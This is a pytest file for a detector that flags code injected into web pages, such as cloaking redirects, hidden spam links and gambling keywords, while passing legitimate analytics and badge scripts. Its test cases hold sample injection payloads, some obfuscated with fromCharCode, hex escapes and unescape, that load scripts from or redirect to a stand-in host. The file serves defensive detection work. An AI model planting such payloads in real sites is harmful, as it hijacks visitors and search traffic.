"""What is written behind the visitor's back, and the sound scripts of real sites that look like it."""

from time import monotonic

import pytest

from tests.checks.fakes import HOME, check, look, page

STATISTICS = """<script>var p = (("https:" == document.location.protocol) ? "https://" : "http://");
document.write(unescape("%3Cscript src='" + p + "hm.baidu.com/h.js%3F1' type='text/javascript'%3E%3C/script%3E"));
</script>"""
CONAC = """<script>document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript
src='http://dcs.conac.cn/js/01/1.js' type='text/javascript'%3E%3C/script%3E"));</script>"""


async def said(html: str, title: str = "测试局", **options: object) -> set[tuple[str, str]]:
    shown = page(HOME, f"<html><head><title>{title}</title></head><body>{html}</body></html>")
    return (await look(check("injected_code", **options), None, shown)).marks


def coded(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


EVIL = '<a href="http://evil.test/">x</a>'


@pytest.mark.parametrize(
    ("html", "mark"),
    [
        ('<base href="http://evil.test/">', ("evil.test", "base")),
        ('<iframe src="data:text/html;base64,PGI+"></iframe>', ("data 网址", "data")),
        ('<a href="http://bit.ly/abc">报名</a>', ("http://bit.ly/abc", "short")),
        (
            "<script>if(/baidu|sogou/.test(document.referrer)){location.href='http://evil.test/x'}</script>",
            ("evil.test", "cloak"),
        ),
        (
            """<script>document.write('<div style="display:none"><a href="http://evil.test/">x</a></div>')</script>""",
            ("evil.test", "script"),
        ),
        (f"<script>document.write(String.fromCharCode({coded(EVIL)}))</script>", ("evil.test", "script")),
        (
            "<script>eval('" + "".join(f"\\x{ord(c):02x}" for c in f"document.write('{EVIL}')") + "')</script>",
            ("evil.test", "script"),
        ),
        (
            "<script>document.write(unescape('%3Cscript%20src%3D%22http%3A%2F%2Fevil.test%2Fa.js%22%3E'))</script>",
            ("evil.test", "script"),
        ),
    ],
)
async def test_what_is_planted(html: str, mark: tuple[str, str]):
    assert await said(html) == {mark}


@pytest.mark.parametrize(
    "html",
    [
        STATISTICS,
        CONAC,
        '<base href="/swscjg/">',
        '<img src="data:image/png;base64,iVBOR">',
        "<script>if(/Android/.test(navigator.userAgent)){location.href='http://www.example.test/m/'}</script>",
        "<script>if(document.referrer==''){location.href='/swscjg/'}</script>",
        "<script>var t='<a href=\"http://partner.test/\">友情链接</a>'; show(t);</script>",
        """<script>menu('<ul style="display:none"><a href="http://www.example.test/a.html">x</a></ul>')</script>""",
        "<script>var c = String.fromCharCode(65,66);</script>",
        '<a href="https://www.gov.cn/">中国政府网</a>',
    ],
)
async def test_what_is_sound(html: str):
    assert await said(html) == set()


async def test_titles_that_search_engines_show():
    assert await said("", title="澳门娱乐城投注平台") == {("网页标题", "stuffed")}
    assert await said("", title="我局打击投注站违法行为") == set()
    shown = '<meta name="keywords" content="百家乐,老虎机">'
    assert await said(shown) == {("网页keywords 标签", "stuffed")}


async def test_own_hosts_are_at_home():
    html = '<base href="http://hd.other.test/">'
    assert await said(html, own_hosts=["hd.other.test"]) == set()


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>" + "<a " * 60_000 + "</script>",
        "<script>" + "\\x41" * 40_000 + "</script>",
        "<script>" + "%41a" * 40_000 + "</script>",
        "<script>fromCharCode(" + "65," * 50_000 + "</script>",
        "<script>" * 20_000,
        "<script>" + "//a.b" * 40_000 + "</script>",
    ],
)
async def test_hostile_pages_are_read_in_time(hostile: str):
    begun = monotonic()
    await said(hostile)
    assert monotonic() - begun < 5
